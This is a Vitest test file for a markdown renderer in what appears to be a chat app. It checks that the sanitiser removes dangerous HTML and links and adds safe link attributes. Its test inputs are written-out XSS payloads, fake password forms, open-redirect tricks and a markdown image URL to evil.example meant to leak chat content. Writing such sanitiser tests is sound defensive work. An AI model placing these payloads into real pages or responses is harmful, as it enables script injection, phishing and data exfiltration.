import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

describe('renderMarkdown', () => {
	it('renders ordinary markdown', () => {
		const html = renderMarkdown('**bold** and `code`\n\n- one\n- two');
		expect(html).toContain('<strong>bold</strong>');
		expect(html).toContain('<code>code</code>');
		expect(html).toMatch(/<ul>\s*<li>one<\/li>/);
	});

	it.each([
		['a script tag', '<script>alert(1)</script>hello', /<script|alert\(1\)/i],
		['an event handler', '<p onclick="alert(1)">x</p><img src=x onerror=alert(1)>', /onclick|onerror|<img/i],
		['a javascript: link', '[click](javascript:alert(1))', /javascript:/i],
		['a data: link', '[click](data:text/html;base64,PHNjcmlwdD4=)', /data:/i],
		['an iframe', '<iframe src="https://evil.example"></iframe>', /<iframe|evil\.example/i],
		['a markdown image that would leak the chat', '![x](https://evil.example/?q=secret)', /<img|evil\.example/i],
		['a style attribute', '<p style="background:url(https://evil.example)">x</p>', /style=|evil\.example/i],
		['a text input', 'Password: <input type=text name=pw>', /<input/i],
		['an input whose type is dropped', '<input name=pw placeholder="Password">', /<input|placeholder/i],
		['a textarea', '<textarea>type here</textarea>', /<textarea|type here/i],
		['a form with a button', '<form action="https://evil.example"><button>Go</button></form>', /<form|<button|evil/i],
		['a select', '<select><option>a</option></select>', /<select|<option/i],
		['an svg with a script', '<svg><script>alert(1)</script></svg>', /<svg|alert/i],
		['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', /<meta|evil/i],
		['an entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">x</a>', /javascript|href/i],
		['a base tag', '<base href="https://evil.example/">', /<base|evil/i]
	])('removes %s', (_label, input, forbidden) => {
		const html = renderMarkdown(input);
		expect(html).not.toMatch(forbidden);
	});

	it('keeps safe links and opens them without an opener', () => {
		const html = renderMarkdown('[docs](https://svelte.dev/docs)');
		expect(html).toContain('href="https://svelte.dev/docs"');
		expect(html).toContain('rel="noopener noreferrer nofollow"');
	});

	it.each([
		['href first', '<a href="https://a.example" title="t">a</a>'],
		['title first', '<a title="t" href="https://a.example">a</a>'],
		['a dropped attribute first', '<a onclick="x()" href="https://a.example">a</a>'],
		['a markdown link with a title', '[a](https://a.example "t")'],
		['an autolink', '<https://a.example>']
	])('adds rel and target to every link: %s', (_label, input) => {
		const html = renderMarkdown(input);
		const links = html.match(/<a\b[^>]*>/g) ?? [];
		expect(links).toHaveLength(1);
		for (const link of links) {
			expect(link).toContain('rel="noopener noreferrer nofollow"');
			expect(link).toContain('target="_blank"');
			expect(link).toContain('href="https://a.example"');
		}
	});

	// A browser reads `\` as `/`, drops tabs and newlines and decodes entities before it parses a
	// URL, so each of these leads to evil.example however same-site it looks.
	it.each([
		['a backslash', '<a href="/\\evil.example">x</a>'],
		['a backslash after the slash', '<a href="/\\/evil.example">x</a>'],
		['an encoded tab', '<a href="/&#9;/evil.example">x</a>'],
		['a named tab', '<a href="/&Tab;/evil.example">x</a>'],
		['an encoded backslash', '<a href="/&bsol;evil.example">x</a>'],
		['an encoded slash', '<a href="/&#47;evil.example">x</a>'],
		['a scheme-relative link', '[x](//evil.example)'],
		['a newline', '<a href="/\n/evil.example">x</a>']
	])('drops a same-site-looking link that leaves the site: %s', (_label, input) => {
		const html = renderMarkdown(input);
		expect(html).not.toMatch(/href=/);
	});

	it.each([
		['a path', '[chats](/chats)', 'href="/chats"'],
		['a path with a query', '[search](/search?q=moon&page=2)', 'href="/search?q=moon&amp;page=2"'],
		['a fragment', '[up](#top)', 'href="#top"']
	])('keeps a link on this site: %s', (_label, input, href) => {
		expect(renderMarkdown(input)).toContain(href);
	});

	it('renders task lists as characters, not form controls', () => {
		const html = renderMarkdown('- [x] done\n- [ ] open');
		expect(html).not.toMatch(/<input/i);
		expect(html).toContain('☑ done');
		expect(html).toContain('☐ open');
	});
});
